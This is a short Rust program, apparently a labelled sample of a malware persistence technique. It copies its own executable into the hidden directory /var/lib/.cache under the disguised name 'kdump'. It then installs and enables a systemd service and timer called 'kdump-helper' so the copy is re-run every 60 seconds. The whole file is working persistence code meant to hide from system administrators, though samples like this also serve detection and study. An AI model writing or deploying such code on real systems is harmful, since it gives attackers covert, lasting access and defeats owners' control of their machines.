// class: persistence by a timer, from a hidden directory
use std::{fs, process::Command};
fn main() {
    fs::create_dir_all("/var/lib/.cache").unwrap();
    fs::copy(std::env::current_exe().unwrap(), "/var/lib/.cache/kdump").unwrap();
    fs::write("/etc/systemd/system/kdump-helper.service", "[Service]\nExecStart=/var/lib/.cache/kdump\n").unwrap();
    fs::write("/etc/systemd/system/kdump-helper.timer", "[Timer]\nOnUnitActiveSec=60\n[Install]\nWantedBy=timers.target\n").unwrap();
    Command::new("systemctl").args(["enable", "--now", "kdump-helper.timer"]).status().unwrap();
}
